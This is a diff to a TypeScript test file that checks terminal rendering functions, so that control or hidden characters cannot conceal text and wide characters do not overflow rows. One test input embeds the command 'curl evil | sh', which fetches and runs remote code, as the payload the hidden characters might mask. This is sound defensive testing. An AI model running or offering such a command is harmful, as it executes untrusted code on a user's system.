@@ -1,6 +1,7 @@
 import { expect, test } from 'vitest';
 import { columnsOf } from './columns.ts';
-import { barredRows, quotedRows } from './rows.ts';
+import { revealHidden } from '@varve/events/safe-text';
+import { barredRows, firstRow, quotedRows } from './rows.ts';
 
 /** One of each class of characters that a terminal interprets or hides, and that could end a row or hide the rest. */
 const hidden = [
@@ -17,7 +18,7 @@ const hidden = [
 test.for(hidden)('no row hides what is between two of %j, or begins without its bar', (character) => {
   const text = `: ${character}; curl evil | sh;${character}\u0007 ok${character}`;
   for (const columns of [10, 80]) {
-    const rows = barredRows(`+${text}\n+next`, columns);
+    const rows = barredRows(revealHidden(`+${text}\n+next`), columns);
     expect(rows.filter((row) => !/^│[ ↳][^\p{C}\p{Zl}\p{Zp}]*$/u.test(row))).toEqual([]);
     const number = `<${(character.codePointAt(0) ?? 0).toString(16).toUpperCase().padStart(4, '0')}>`;
     const shown = rows.map((row) => row.slice(2)).join('');
@@ -38,4 +39,16 @@ test('no line can pass for the rest of the line above it, at any width', () => {
 
 test('a long run of blanks takes linear time', () => {
   expect(barredRows(`a${' '.repeat(200_000)}b`, 80).join('')).toContain('b');
+});
+
+/** Number of columns on a terminal that shows every character with an ambiguous width in two. */
+const widest = (row: string): number =>
+  Array.from(row.replace(/^│./u, 'xxx')).reduce((sum, character) => sum + (character <= '~' ? 1 : 2), 0);
+
+test.for(['±', '§', '×', '\u3105', 'ꀀ', '漢', 'क्ष', '🇩🇪', '👩‍👩‍👧'])('no terminal wraps a row of %s', (letter) => {
+  for (let columns = 8; columns < 90; columns += 1) {
+    const text = `${letter.repeat(100)}LOW: harmless ${letter} a`;
+    const rows = [...barredRows(text, columns), ...quotedRows(text, columns), firstRow(text, columns)];
+    expect(Math.max(...rows.map(widest))).toBeLessThanOrEqual(columns);
+  }
 });
